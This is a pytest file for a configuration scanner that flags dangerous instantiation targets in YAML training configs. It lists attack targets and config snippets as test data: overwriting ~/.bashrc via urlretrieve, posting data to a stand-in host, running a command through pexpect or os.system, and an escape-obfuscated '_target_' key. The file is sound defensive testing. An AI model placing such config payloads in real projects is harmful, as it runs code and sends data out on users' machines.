"""Targets outside the old module lists (session 27 red team): a standard-library
callable that is not a value type (`logging.config.fileConfig` evals its .ini,
`urllib.request.urlretrieve` writes over `~/.bashrc`), and the libraries that
wrap a shell, unpickle or send data out (`pexpect`, `cloudpickle`, Keras'
loader, `requests`, the hub's uploads). Real git and the real CLI; benign
look-alikes and the excuses an attacker would try beside each."""

from __future__ import annotations

import pytest

from traingate.checks.config.names import names_code
from traingate.checks.config.targets import _dangerous_target, _stdlib_target

from .conftest import Repo
from .test_config_issue16 import change, crepo, rules_at, run

__all__ = ["crepo"]  # the fixture, re-used

ATTACKS = [
    "logging.config.fileConfig",
    "logging.config.listen",
    "urllib.request.urlretrieve",
    "urllib.request.urlopen",
    "http.client.HTTPSConnection",
    "smtplib.SMTP",
    "ftplib.FTP",
    "xmlrpc.client.ServerProxy",
    "tarfile.open",
    "shelve.open",
    "codecs.open",
    "io.open",
    "tempfile.NamedTemporaryFile",
    "_posixsubprocess.fork_exec",
    "distutils.spawn.spawn",
    "requests.post",
    "httpx.Client",
    "cloudpickle.loads",
    "jsonpickle.decode",
    "pexpect.run",
    "sh.bash",
    "psutil.Popen",
    "keras.saving.load_model",
    "tensorflow.keras.models.load_model",
    "torch.distributed.rpc.rpc_sync",
    "huggingface_hub.upload_folder",
    "huggingface_hub.HfApi.upload_file",
    # excuses an attacker would lean on: a method of an allowed class, a private
    # helper of an allowed module, a module left out on purpose
    "pathlib.Path.write_text",
    "functools.partialmethod",
    "datetime._something",
    "collections._collections_abc.Callable",
    "typing._eval_type",
    "operator.call",
]
BENIGN = [
    "functools.partial",
    "pathlib.Path",
    "datetime.timedelta",
    "collections.OrderedDict",
    "math.sqrt",
    "logging.handlers.RotatingFileHandler",
    "logging.getLogger",
    "torch.optim.AdamW",
    "torchtune.training.FullModelHFCheckpointer",
    "lightning.pytorch.loggers.TensorBoardLogger",
    "huggingface_hub.HfApi",
    "src.models.vit.ViT",
]


@pytest.mark.parametrize("target", ATTACKS)
def test_library_targets_are_dangerous(target: str) -> None:
    assert _dangerous_target(target) or _stdlib_target(target)


@pytest.mark.parametrize("target", BENIGN)
def test_value_types_and_project_classes_pass(target: str) -> None:
    assert not _dangerous_target(target) and not _stdlib_target(target)


def test_names_of_senders_are_dangerous_names_too() -> None:
    # the config-dangerous-name rule shares the code-running list, not the
    # standard-library one: `reduction: operator.add` is not a finding there
    assert names_code("requests.post") and names_code("cloudpickle.loads")
    assert not names_code("tempfile.gettempdir") and not names_code("math.sqrt")


@pytest.mark.parametrize(
    ("snippet", "flagged"),
    [
        ("cb:\n  _target_: logging.config.fileConfig\n  fname: configs/log.ini\n", True),
        ("cb:\n  _target_: urllib.request.urlretrieve\n  filename: ~/.bashrc\n", True),
        ("cb:\n  _target_: requests.post\n  url: https://x.example/ingest\n", True),
        ("cb:\n  _target_: huggingface_hub.upload_folder\n  repo_id: a/b\n", True),
        ("cb:\n  - class_path: pexpect.run\n    init_args: {command: id}\n", True),
        ("cb:\n  _target_: functools.partial\n  _args_: [1]\n", False),
        ("cb:\n  _target_: pathlib.Path\n  _args_: [/data]\n", False),
        ("cb:\n  _target_: torch.optim.AdamW\n  lr: 0.001\n", False),
    ],
)
def test_through_the_gate(
    crepo: Repo, capsys: pytest.CaptureFixture[str], snippet: str, flagged: bool
) -> None:
    change(crepo, {"configs/cb.yaml": snippet})
    code, doc = run(crepo, capsys)
    hits = {r for r, p, _ in rules_at(doc) if p == "configs/cb.yaml"}
    assert ("config-dangerous-target" in hits) is flagged
    if flagged:
        assert code == 1


@pytest.mark.parametrize(
    ("snippet", "rule"),
    [
        # a node built from a string: oc.create of another key, oc.decode of a literal
        ('s: "{_target_: os.system}"\ncb: ${oc.create:${s}}\n', "config-dangerous-target"),
        ("cb: \"${oc.decode:'{_target_: requests.post}'}\"\n", "config-dangerous-target"),
        ('cb: "${oc.create:{_component_: pexpect.run}}"\n', "config-dangerous-target"),
        ('cb: "${oc.create:{_target_: ${oc.env:T}}}"\n', "config-untrusted-target"),
        # session 27 review: the key spelled with a YAML escape, read once decoded
        ('cb: \'${oc.create:"{"_tar\\x67et_": os.system}"}\'\n', "config-dangerous-target"),
        ('cb: "${oc.create:{_target_: torch.optim.AdamW, lr: 0.1}}"\n', None),
        # a number from the environment is data, not a node to instantiate
        ("bs: ${oc.decode:${oc.env:BATCH,32}}\n", None),
        # session 28: oc.create only makes nodes; one built from the environment,
        # or from a project resolver's output, is chosen when the job runs
        ("logger: ${oc.create:${oc.env:LOGGER}}\n", "config-untrusted-target"),
        (
            "logger: \"${oc.create:${oc.env:LOGGER,'{_target_: x.Y}'}}\"\n",
            "config-untrusted-target",
        ),
        ("logger: ${oc.create:${fetch:spec}}\n", "config-untrusted-target"),
        ("spec: '{_target_: src.log.Logger}'\nlogger: ${oc.create:${spec}}\n", None),
    ],
)
def test_nodes_built_by_resolvers(
    crepo: Repo, capsys: pytest.CaptureFixture[str], snippet: str, rule: str | None
) -> None:
    change(crepo, {"configs/cb.yaml": snippet})
    _, doc = run(crepo, capsys)
    hits = {r for r, p, _ in rules_at(doc) if p == "configs/cb.yaml"}
    targets = hits & {"config-dangerous-target", "config-untrusted-target"}
    assert targets == ({rule} if rule else set())
